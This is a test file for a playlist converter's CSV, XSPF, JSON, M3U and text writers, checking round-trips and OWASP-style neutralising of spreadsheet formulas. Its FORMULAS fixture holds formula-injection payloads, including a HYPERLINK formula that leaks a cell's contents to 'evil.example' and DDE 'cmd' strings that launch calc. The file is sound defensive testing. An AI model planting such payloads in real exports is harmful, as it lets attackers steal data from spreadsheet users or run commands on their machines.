import { describe, expect, it } from "vitest";
import { type FileFormat, readEntries, writeEntries } from "../../../engine/files/index.js";
import type { SongEntry } from "../../../engine/match/entry.js";

const song = (over: Partial<SongEntry>): SongEntry => ({
  title: "Song",
  artists: [],
  album: null,
  durationSeconds: null,
  isrc: null,
  explicit: null,
  videoId: null,
  ...over,
});

/** Values that break naive writers: quotes, delimiters, markup, newlines, non-Latin text. */
const AWKWARD: SongEntry[] = [
  song({
    title: 'He said "hi", then; left',
    artists: ["Simon & Garfunkel", "Ünïcødé"],
    album: "<Live> & 'Loud'",
    durationSeconds: 215.5,
    isrc: "USRC17607839",
    explicit: true,
    videoId: "dQw4w9WgXcQ",
  }),
  song({
    title: "東京事変 — 群青日和",
    artists: ["東京事変"],
    album: "教育",
    durationSeconds: 199,
    videoId: "a-b_c1234XY",
  }),
  song({ title: "Two\nlines", artists: ["Band"], album: "A,B\tC", explicit: false }),
  song({ title: "#1 Crush", artists: [], durationSeconds: 0 }),
  song({ title: "Наутилус ]]> <![CDATA[", artists: ["Ab \\ cd"], durationSeconds: 3723 }),
];

/** Our writers output UTF-8 text; reading it back must give the same songs. */
function roundTrip(entries: readonly SongEntry[], format: FileFormat): SongEntry[] {
  const text = writeEntries(entries, format);
  const read = readEntries(new TextEncoder().encode(text), {
    fileName: `out.${format}`,
    format,
    strict: true,
  });
  return read.entries.map(({ line: _line, ...entry }) => entry);
}

const compared = (e: SongEntry) => ({
  title: e.title,
  artists: e.artists,
  album: e.album,
  durationSeconds: e.durationSeconds,
  videoId: e.videoId,
});

describe("every writer reads back to the same songs", () => {
  it.each(["csv", "xspf", "json"] as const)("%s keeps every field, newlines included", (format) => {
    const back = roundTrip(AWKWARD, format);
    expect(back.map(compared)).toEqual(AWKWARD.map(compared));
    if (format !== "xspf") expect(back.map((e) => e.explicit)).toEqual(AWKWARD.map((e) => e.explicit));
    expect(back.map((e) => e.isrc)).toEqual(AWKWARD.map((e) => e.isrc));
  });

  it("m3u keeps title, artists, album, duration and video id; a newline in a title becomes a space", () => {
    const flat = AWKWARD.map((e) => ({ ...e, title: e.title.replace("\n", " ") }));
    // #1 Crush has no video id: its search location reads back as none.
    expect(roundTrip(AWKWARD, "m3u").map(compared)).toEqual(flat.map(compared));
  });

  it("text keeps artists and title", () => {
    const back = roundTrip(AWKWARD, "text");
    expect(back.map((e) => [e.artists, e.title])).toEqual(
      AWKWARD.map((e) => [e.artists, e.title.replace("\n", " ")]),
    );
  });

  it("writes Exportify's headers plus Video ID, and watch URLs in m3u and xspf", () => {
    expect(writeEntries([], "csv").split("\n")[0]).toBe(
      "Track Name,Artist Name(s),Album Name,Duration (ms),Explicit,ISRC,Video ID",
    );
    const one = [song({ title: "T", artists: ["A"], durationSeconds: 200, videoId: "dQw4w9WgXcQ" })];
    expect(writeEntries(one, "m3u")).toBe(
      "#EXTM3U\n#EXTINF:200,A - T\nhttps://music.youtube.com/watch?v=dQw4w9WgXcQ\n",
    );
    expect(writeEntries(one, "xspf")).toContain(
      "<location>https://music.youtube.com/watch?v=dQw4w9WgXcQ</location>",
    );
    expect(writeEntries(one, "json")).toBe(
      '[\n  {"title":"T","artists":["A"],"album":null,"duration":200,"isrc":null,"explicit":null,"videoId":"dQw4w9WgXcQ"}\n]\n',
    );
  });
});

/** Cells a spreadsheet would run (docs/ENGINE.md#bad-input), and cells that only look close to one. */
const FORMULAS: SongEntry[] = [
  song({
    title: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    artists: ["=cmd"],
    videoId: "-aBcDeFgHiJ",
  }),
  song({ title: "+cmd|' /C calc'!A0", artists: ["+Band"], album: "@SUM(1+1)" }),
  song({ title: "@SUM(1+1)*cmd|' /C calc'!A0", artists: ["Band"], album: "-2+3+cmd|' /C calc'!A0" }),
  song({ title: "-2+3+cmd|' /C calc'!A0", artists: ["Band"] }),
  song({ title: "-2", artists: ["-M-"] }),
  song({ title: "'=already a quote and an equals sign", artists: ["''+two quotes"] }),
  song({ title: "'Til Tuesday", artists: ["'quoted' band"] }),
  song({ title: "＝ＨＹＰＥＲＬＩＮＫ（）", artists: ["＠全角"], album: "＋１" }),
  song({ title: "Tab\t=inside, not at the start", artists: ["A = B"] }),
];

/** The cells as a spreadsheet program sees them: our CSV parsed, quotes taken off, nothing else. */
function spreadsheetCells(csv: string): string[] {
  const cells: string[] = [];
  for (const m of csv.matchAll(/"((?:[^"]|"")*)"|([^,\n]*)/g)) {
    if (m[0] !== "") cells.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : (m[2] ?? ""));
  }
  return cells;
}

describe("CSV export neutralises spreadsheet formulas (OWASP) and reads back exactly", () => {
  it("writes no cell that begins with = + - @ (or their full-width forms), each dangerous one quoted", () => {
    const csv = writeEntries(FORMULAS, "csv");
    for (const cell of spreadsheetCells(csv)) expect(cell, cell).not.toMatch(/^[=+\-@＝＋－＠\t\r]/);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","'=cmd"`);
    expect(csv).toContain(`"'+cmd|' /C calc'!A0","'+Band","'@SUM(1+1)",`);
    expect(csv.split("\n")[5]).toBe(`"'-2","'-M-",,,,,`);
    expect(csv).toContain(`"'-aBcDeFgHiJ"`);
    // A quote, then a formula character: one more quote, so reading takes back exactly one.
    expect(csv).toContain(`"''=already a quote and an equals sign","'''+two quotes"`);
    expect(csv).toContain("'Til Tuesday,'quoted' band,");
  });

  it("export -> file source gives the same entries, a title beginning with a quote included", () => {
    const back = roundTrip(FORMULAS, "csv");
    expect(back.map(compared)).toEqual(FORMULAS.map(compared));
  });

  it("reads another tool's OWASP-neutralised cells as their text; a lone quote is kept", () => {
    const csv = "Title,Artist\n\"'=1+1\",\"'-Band\"\n'Tis the season,'\n";
    const { entries } = readEntries(new TextEncoder().encode(csv), { fileName: "x.csv", strict: true });
    expect(entries.map((e) => [e.title, e.artists])).toEqual([
      ["=1+1", ["-Band"]],
      ["'Tis the season", ["'"]],
    ]);
  });
});
